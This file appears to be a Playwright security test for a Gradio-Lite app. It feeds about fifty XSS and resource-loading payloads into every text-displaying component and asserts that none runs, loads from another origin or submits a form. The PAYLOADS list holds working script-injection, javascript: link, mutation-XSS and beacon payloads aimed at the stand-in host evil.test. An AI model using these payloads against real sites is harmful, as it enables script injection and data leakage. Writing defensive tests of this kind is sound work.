"""An attacker's strings in every place an app shows text: nothing runs, nothing loads from
another origin, forms cannot submit and gr.HTML stays in its box. Remote resources load
only when the page opts in with `allow-remote-resources`."""

from __future__ import annotations

import json
from urllib.parse import urlsplit

from playwright.sync_api import Dialog, Page, Route, expect

from .conftest import lite_page, open_app
from .server import StaticServer

EVIL = "http://evil.test"
PAYLOADS = [
    "<script>window.__xss='script'</script>",
    "<img src=x onerror=\"window.__xss='onerror'\">",
    "<img src=x onerror=&#119;indow.__xss='entity'>",
    "<svg onload=\"window.__xss='svg onload'\"></svg>",
    "<svg><animate onbegin=\"window.__xss='animate'\" attributeName=x dur=1s /></svg>",
    "<details open ontoggle=\"window.__xss='ontoggle'\"><summary>d</summary></details>",
    "<input autofocus onfocus=\"window.__xss='onfocus'\">",
    "<marquee onstart=\"window.__xss='marquee'\">m</marquee>",
    "<body onload=\"window.__xss='body'\">",
    "<a href=\"javascript:window.__xss='js link'\">js link</a>",
    "[md link](javascript:window.__xss='md%20link')",
    "<svg><a xlink:href=\"javascript:window.__xss='svg link'\"><text y=10>s</text></a></svg>",
    "<math><a xlink:href=\"javascript:window.__xss='math link'\">m</a></math>",
    "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
    "<iframe src=\"javascript:parent.__xss='iframe js'\"></iframe>",
    "<object data=\"javascript:window.__xss='object js'\"></object>",
    f'<object data="{EVIL}/object.html"></object>',
    f'<embed src="{EVIL}/embed.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss math'\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__xss='mxss svg'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss='noscript'>\">",
    "<template><script>window.__xss='template'</script></template>",
    "<scr<script>ipt>window.__xss='nested'</script>",
    "\"><script>window.__xss='breakout'</script>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss='foreign'</script>\"></iframe></foreignObject></svg>",
    "<form action=\"javascript:window.__xss='form'\"><button>form button</button></form>",
    f'<form action="{EVIL}/form"><input name=q value=1><input type=submit value="form submit"></form>',
    f'<button form="host" formaction="{EVIL}/formaction">formaction</button>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/style.css">',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<img src="{EVIL}/beacon.png">',
    f'<img srcset="{EVIL}/srcset.png 1x, {EVIL}/srcset2.png 2x">',
    f'<picture><source srcset="{EVIL}/picture.png"><img alt=p></picture>',
    f"![md image]({EVIL}/md-image.png)",
    f'<div style="background:url({EVIL}/inline-bg.png)">inline bg</div>',
    '<div style="background:url(//evil.test/protocol-relative.png)">protocol relative</div>',
    '<div style="background:u\\72l(http://evil.test/escaped.png)">escaped css</div>',
    f'<style>@import url("{EVIL}/import.css");</style>',
    f"<style>.bg {{ background-image: url({EVIL}/style-bg.png) }}</style><div class=bg>style bg</div>",
    f'<style>.set {{ background-image: image-set("{EVIL}/image-set.png" 1x) }}</style><div class=set>set</div>',
    f'<video poster="{EVIL}/poster.png" src="{EVIL}/video.mp4"></video>',
    f'<audio src="{EVIL}/audio.mp3" autoplay></audio>',
    f'<svg><image href="{EVIL}/svg-image.png" width=10 height=10 /></svg>',
    f'<svg><use href="{EVIL}/sprite.svg#a" /></svg>',
    f'<svg><filter id=f><feImage href="{EVIL}/feimage.png"/></filter><rect filter="url(#f)" width=5 height=5 /></svg>',
    f'<input type="image" src="{EVIL}/input.png" alt=i>',
    f'<table background="{EVIL}/table.png"><tr><td>table</td></tr></table>',
    f'<a href="{EVIL}/page" ping="{EVIL}/ping">a plain link</a>',
    "<img src=x onerror=alert('alert')>",
]

EVERYWHERE = """
import gradio as gr

P = json.loads(PAYLOADS_JSON)
ALL = "\\n\\n".join(P)

def attack(text):
    gr.Info(ALL)
    gr.Warning(ALL)
    return ALL, ALL, ALL, {p: i / len(P) for i, p in enumerate(P[:20])}

def fail():
    raise gr.Error(ALL)

with gr.Blocks() as demo:
    gr.Markdown(ALL)
    html = gr.HTML(ALL)
    text = gr.Textbox(value=ALL, label=ALL, info=ALL)
    gr.Label({p: 0.5 for p in P[:20]}, label=P[1])
    gr.Chatbot([{"role": "user" if i % 2 else "assistant", "content": p} for i, p in enumerate(P)], type="messages")
    gr.Dataframe([[p, p] for p in P], headers=[P[0], P[1]])
    gr.HighlightedText([(p, "x") for p in P])
    gr.JSON({p: p for p in P})
    gr.Dropdown(P, value=P[0], label=P[2], info=P[3], allow_custom_value=True)
    go = gr.Button("Attack")
    boom = gr.Button("Fail")
    md = gr.Markdown()
    out = gr.Textbox(label="out")
    label = gr.Label()
    gr.Examples([[p] for p in P], inputs=text)
    go.click(attack, text, [md, html, out, label])
    boom.click(fail)

demo.launch()
""".replace("json.loads(PAYLOADS_JSON)", "__import__('json').loads(" + repr(json.dumps(PAYLOADS)) + ")")

# Every element under the app, shadow roots included: what an attacker may have left in it.
LEFTOVERS = """() => {
  const found = [];
  const visit = (root) => {
    for (const el of root.querySelectorAll("*")) {
      if (["script", "iframe", "object", "embed", "form", "base", "meta", "link"].includes(el.localName))
        found.push(el.localName);
      for (const a of el.attributes) {
        if (a.name.startsWith("on")) found.push(el.localName + " " + a.name);
        if (/^\\s*javascript:/i.test(a.value)) found.push(el.localName + " " + a.name + "=" + a.value);
      }
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  document.querySelectorAll("gradio-lite").forEach(visit);
  return found;
}"""


def watch(page: Page, server: StaticServer, name: str, body: str) -> tuple[list[str], list[str]]:
    """Serve `body` at /<name>.html; the hosts other than the server's asked for, and dialogs."""
    foreign: list[str] = []
    dialogs: list[str] = []

    def route(route: Route) -> None:
        url = route.request.url
        if url == f"{server.url}/{name}.html":
            route.fulfill(content_type="text/html", body=body)
        elif urlsplit(url).hostname == "127.0.0.1":
            route.continue_()
        else:
            foreign.append(url)
            route.fulfill(status=204)

    def dialog(d: Dialog) -> None:
        dialogs.append(d.message)
        d.dismiss()

    page.route("**/*", route)
    page.on("dialog", dialog)
    return foreign, dialogs


def test_no_payload_runs_or_loads_anything_anywhere(page: Page, server: StaticServer) -> None:
    foreign, dialogs = watch(page, server, "xss", lite_page(EVERYWHERE))
    open_app(page, f"{server.url}/xss.html")
    expect(page.get_by_text("a plain link").first).to_be_visible()
    page.get_by_role("button", name="Attack").click()
    expect(page.get_by_label("out", exact=True)).to_have_value("\n\n".join(PAYLOADS), timeout=20_000)
    page.get_by_role("button", name="Fail").click()
    expect(page.get_by_role("alert").first).to_be_visible()
    page.get_by_role("combobox").first.click()  # the dropdown's choices, shown
    page.get_by_text("form submit").first.click()  # no form left to submit: the page stays
    page.wait_for_timeout(1500)  # time for late loads and handlers
    assert page.evaluate("window.__xss") is None
    assert dialogs == []
    assert foreign == []
    assert page.evaluate(LEFTOVERS) == []
    # Links to other sites stay, opening in a new tab without a referrer.
    link = page.locator("lite-html a", has_text="a plain link")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")


COVER = """
import gradio as gr

with gr.Blocks() as demo:
    gr.HTML('<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>'
            '<img alt="remote" src="http://evil.test/allowed.png">')
    gr.Textbox(label="below")

demo.launch()
"""


def test_html_stays_in_its_box_and_remote_loads_need_the_opt_in(page: Page, server: StaticServer) -> None:
    opted_in = lite_page(COVER).replace("<gradio-lite", "<gradio-lite allow-remote-resources", 1)
    foreign, _ = watch(page, server, "cover", opted_in)
    open_app(page, f"{server.url}/cover.html")
    expect(page.get_by_text("cover")).to_be_visible()
    # The fixed box covers its block only: the textbox below and the page's corner show through.
    page.get_by_label("below").fill("reachable")
    assert page.evaluate("document.elementFromPoint(2, 2).localName") != "lite-html"
    expect(page.get_by_label("below")).to_have_value("reachable")
    for _ in range(20):
        if foreign:
            break
        page.wait_for_timeout(100)
    assert foreign == ["http://evil.test/allowed.png"]
